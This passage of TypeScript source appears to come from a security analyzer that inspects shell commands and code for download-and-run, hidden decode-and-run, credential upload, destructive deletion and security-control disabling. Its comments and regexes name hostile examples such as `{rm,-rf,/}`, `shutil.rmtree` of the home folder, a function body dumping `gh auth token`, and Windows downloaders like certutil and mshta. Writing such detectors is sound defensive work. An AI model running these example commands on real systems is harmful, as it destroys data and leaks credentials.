  if (name.startsWith('python') && args.some((a, i) => a === '-m' && /^(?:http\.server|SimpleHTTPServer)$/.test(args[i + 1] ?? ''))) return after(['--directory', '-d']) ?? '.';
  if (name === 'php' && args.includes('-S')) return after(['-t']) ?? '.';
  const npx = name === 'npx' || name === 'bunx' ? args.findIndex((a) => !a.startsWith('-')) : -1;
  const server = npx >= 0 ? programName(args[npx]!).replace(/@[^@]*$/, '') : name;
  if (server === 'serve' || server === 'http-server') {
    const rest = npx >= 0 ? args.slice(npx + 1) : args;
    const valueOptions = new Set(['-l', '--listen', '-p', '--port', '-a', '--address', '-c', '--config']);
    for (let i = 0; i < rest.length; i++) {
      if (valueOptions.has(rest[i]!)) i++;
      else if (!rest[i]!.startsWith('-')) return rest[i];
    }
    return '.';
  }
  return undefined;
}

/** argv with its brace lists expanded as bash expands them (`{rm,-rf,/}` is three words). */
function braceWords(argv: readonly string[]): readonly string[] {
  if (!argv.some((w) => w.startsWith('{') && w.endsWith('}') && w.includes(','))) return argv;
  return argv.flatMap((w) => (/^\{[^{}\s]*,[^{}\s]*\}$/.test(w) ? w.slice(1, -1).split(',') : [w]));
}

/**
 * argv without a function definition's head (`f()`, `f(){`, `function f`, a `{` after them): parseShell
 * reads `f() { gh auth token; }` as one command whose words start with the head, and the body runs where
 * the name is used, so the body's first command is what the analysis reads.
 */
function functionBody(argv: readonly string[]): readonly string[] {
  // Most commands start with a program's name: one character test passes them by.
  const first = argv[0];
  if (first === undefined || argv.length < 2) return argv;
  const end = first.charCodeAt(first.length - 1);
  if (end !== 0x29 && end !== 0x7b && first !== 'function') return argv;
  let out = argv;
  for (let guard = 0; guard < 4 && out.length > 1; guard++) {
    const word = out[0]!;
    if (/^[A-Za-z_][\w.:-]*\(\)\{?$/.test(word) || word === '{') out = out.slice(1);
    else if (word === 'function' && /^[A-Za-z_][\w.:-]*(?:\(\))?\{?$/.test(out[1]!)) out = out.slice(2);
    else break;
  }
  return out;
}

/**
 * The options a curl config text holds, as argv: one per line, `name = value`, `name: value`, `name value` or
 * `--name value`, the value quoted or not; `#` lines and blank lines skipped. At most 64 lines are read.
 */
export function curlConfigArgs(text: string): string[] {
  const out: string[] = [];
  for (const raw of text.split(/\r?\n/, 64)) {
    const line = raw.trim();
    if (line === '' || line.startsWith('#')) continue;
    const m = /^(-{0,2}[A-Za-z0-9][\w-]*)(?:\s*[=:]\s*|\s+)?(.*)$/.exec(line);
    if (m === null) continue;
    const name = m[1]!;
    out.push(name.startsWith('-') ? name : name.length === 1 ? `-${name}` : `--${name}`);
    const value = m[2]!.trim();
    if (value !== '') out.push(/^"(.*)"$/.test(value) ? value.slice(1, -1).replace(/\\(.)/g, '$1') : value);
  }
  return out;
}

/** argv after the wrappers (sudo, env, timeout …), for recognising the program a stage runs. */
export function unwrap(table: ProgramTable, argv: readonly string[]): readonly string[] {
  let out = functionBody(argv);
  for (let guard = 0; guard < 8; guard++) {
    const spec = table.wrappers.get(programName(out[0] ?? ''));
    if (!spec) return out;
    let i = 1;
    let skip = spec.skip;
    for (; i < out.length; i++) {
      const a = out[i]!;
      if (spec.valueOptions.has(a)) i++;
      else if (a.startsWith('-') || (spec.slashOptions && a.startsWith('/')) || /^[A-Za-z_][A-Za-z0-9_]*=/.test(a)) continue;
      else if (skip > 0) skip--;
      else break;
    }
    out = out.slice(i);
  }
  return out;
}

/** The names codeDeletesRoot reads, as a cheap test before it lower-cases the text. */
const codeDeleter = /rmtree|remove_tree|rm_rf?\b|remove_dir|rmsync|rmdirsync|\.rm\s*\(|rimraf/i;

/** The analysis of shell text, read as the shell runs it. */
function analysed(text: string, checks: PathChecks, carried?: LineCarry): Analysis {
  const analysis = new Analysis(checks, carried);
  analysis.text(text, 0);
  // A value read as a command may be code of a language (an `execute` tool's source): its shell strings run too.
  analysis.codeCommands(text, 0);
  // And whether it sends the whole process environment (a notebook cell logging os.environ to a tracker).
  if ((text.includes('environ') || text.includes('process.env')) && ![...analysis.findings.values()].some((f) => f.rule === 'cmd/credential-upload')) {
    const lower = text.toLowerCase();
    if (analysis.table.codeSend.test(lower) && analysis.table.codeEnvironment.test(lower)) analysis.add('cmd/credential-upload', clip(text), 'code sends the process environment');
  }
  // And what it deletes itself (`shutil.rmtree(os.path.expanduser('~'))`); a name of a deleting call first.
  if (text.includes('(') && codeDeleter.test(text) && ![...analysis.findings.values()].some((f) => f.rule === 'cmd/destructive-delete')) {
    const deleted = codeDeletesRoot(analysis.table, text);
    if (deleted !== undefined) analysis.add('cmd/destructive-delete', deleted, 'code');
  }
  forgetLongName();
  return analysis;
}

/** Analyses shell text. */
export function analyzeShell(text: string, checks: PathChecks): CommandFinding[] {
  return [...analysed(text, checks).findings.values()];
}

/**
 * {@link analyzeShell} with the commands it read the text as (variables put back), so a reader that judges
 * them by its own measure does not parse the text again.
 */
export function analyzeShellCommands(text: string, checks: PathChecks): { readonly findings: CommandFinding[]; readonly commands: readonly SimpleCommand[] } {
  const analysis = analysed(text, checks);
  return { findings: [...analysis.findings.values()], commands: analysis.commands ?? [] };
}

/**
 * {@link analyzeShell} of a line run after earlier lines of the same session (`carried`: what they left), with
 * what this line leaves in turn: a file one call downloads and the next runs, a credential copied by one call
 * and sent by the next, a remote pointed by one call and pushed to by the next.
 */
export function analyzeShellCarrying(text: string, checks: PathChecks, carried?: LineCarry): { readonly findings: CommandFinding[]; readonly carry: LineCarry | undefined } {
  const analysis = analysed(text, checks, carried);
  return { findings: [...analysis.findings.values()], carry: analysis.carry() };
}

const noPathChecks: PathChecks = { writeTarget: () => undefined, credential: () => undefined };
// Fetchers the analysis may not read as commands (PowerShell's, Windows' downloaders, httpie's program word).
const otherFetcherWords = /\b(?:fetch|lwp-\w+|aria2c|xh|iwr|irm|invoke-(?:webrequest|restmethod)|download(?:string|file)|webclient|certutil|bitsadmin|mshta|regsvr32)\b|\bhttps?\s/i;

/**
 * Whether every download `text` runs is a vendor's official installer (official-installers.ts): each fetcher
 * in it fetches one official URL, every URL it holds is one, and nothing else downloads and runs. What a
 * signature rule saw piped to a shell there is that installer.
 */
export function runsOnlyOfficialInstallers(text: string): boolean {
  if (otherFetcherWords.test(text)) return false;
  const urls = text.match(/\bhttps?:\/\/[^\s'"|;&)<>`]*/gi);
  if (urls === null || !urls.every(officialInstallerUrl)) return false;
  const analysis = analysed(text, noPathChecks);
  if (analysis.otherFetches > 0) return false;
  const rules = [...analysis.findings.values()].map((f) => f.rule);
  return rules.includes('cmd/official-installer-run') && !rules.includes('cmd/download-and-run') && !rules.includes('cmd/decode-and-run');
}

/** Whether `argv` (wrappers read) switches a security control of the machine off (`security-disablers` of rules/programs.yaml). */
export function switchesControlOff(argv: readonly string[]): boolean {
  return invokedIn(programTable().securityDisablers, argv);
}

/** What code that hides a run holds: an escape, a decoding call, character codes or a reversal (most code holds none). */
const mayHideRun = /\\[xu0-7]|fromCharCode|fromCodePoint|\bchr\s*\(|fromhex|unhexlify|b64decode|atob\s*\(|Buffer\.from|base64_decode|hex2bin|FromBase64String|decode64|\[::-1\]|reverse\(\)/;

/**
 * Code written to a file (a module, a page's script): the commands its runners and `eval`s are handed hidden
 * (from character codes, escapes of plain characters, hex or base64: code-strings.ts), as cmd/decode-and-run
 * with what the hidden line is judged as. Plain runner lines are left alone: code that runs `npm test` is code.
 */
export function analyzeHiddenRuns(code: string, checks: PathChecks): CommandFinding[] {
  if (!mayHideRun.test(code)) return [];
  const analysis = new Analysis(checks);
  analysis.codeCommands(code, 0, true);
  return [...analysis.findings.values()];
}

/** Analyses an argv given as an array (exec-style tools). */
export function analyzeArgv(argv: readonly string[], checks: PathChecks): CommandFinding[] {
  const analysis = new Analysis(checks);
  const cmd = { argv: [...argv], env: [], redirects: [], heredocs: [], substitutions: [], upstream: [] };
  analysis.command(cmd, argv, 0);
  analysis.credentialOutput([cmd]);
  return [...analysis.findings.values()];
}

/** Builtins that define names (`export T=…`). */
const definers = new Set(['export', 'declare', 'typeset', 'readonly', 'local']);
/** Programs that copy files to another machine through a login to it. */
const loginCopiers = new Set(['scp', 'rsync', 'sftp', 'pscp']);
/** Programs that print the whole of the files they read, as they are or encoded. */
const wholeFileReaders = new Set(['cat', 'tac', 'base64', 'base32', 'xxd', 'od', 'hexdump', 'gzip', 'bzip2', 'xz', 'zstd']);

/** The name rules/write-targets.yaml gives shell start-up files. */
const startUpFile = 'a shell start-up file';

/**
 * The text `echo WORDS` or `printf '%s\\n' WORDS` writes, when the words say it plainly: no substitution run
 * to make it, no option or escape that changes it (`echo -e`, a format of its own). Undefined otherwise, so
 * a redirect of it is judged by its place alone.
 */
function echoedText(cmd: SimpleCommand): string | undefined {
  if (cmd.substitutions.length > 0 || cmd.heredocs.length > 0) return undefined;
  const name = programName(cmd.argv[0] ?? '');
  let words: string[];
  if (name === 'echo') words = cmd.argv.slice(cmd.argv[1] === '-n' || cmd.argv[1] === '-E' ? 2 : 1);
  else if (name === 'printf' && (cmd.argv[1] === '%s\\n' || cmd.argv[1] === '%s\n')) words = cmd.argv.slice(2);
  else return undefined;
  if (words.length === 0 || words.some((w) => w.includes('\\') && name === 'printf') || (name === 'echo' && words[0]!.startsWith('-'))) return undefined;
  return words.join(name === 'echo' ? ' ' : '\n');
}

/**
 * The text `printf FORMAT` or `echo [-e] WORDS` prints when the line alone says it (no substitution, one
 * stage): see printedText. Undefined for any other command.
 */
function wholePrintedText(cmd: SimpleCommand): string | undefined {
  if (cmd.substitutions.length > 0 || cmd.heredocs.length > 0 || cmd.upstream.length > 0) return undefined;
  const name = programName(cmd.argv[0] ?? '');
  return name === 'printf' || name === 'echo' ? printedText(cmd.argv, name) : undefined;
}

/** A folder of the project, named from its root: relative, without `..`, a home or a variable. */
function projectFolder(value: string): boolean {
  const path = value.trim().replace(/^["']|["']$/g, '');
  return path !== '' && /^[\w.@+/-]+$/.test(path) && !path.startsWith('/') && !/(?:^|\/)\.\.(?:\/|$)/.test(path);
}
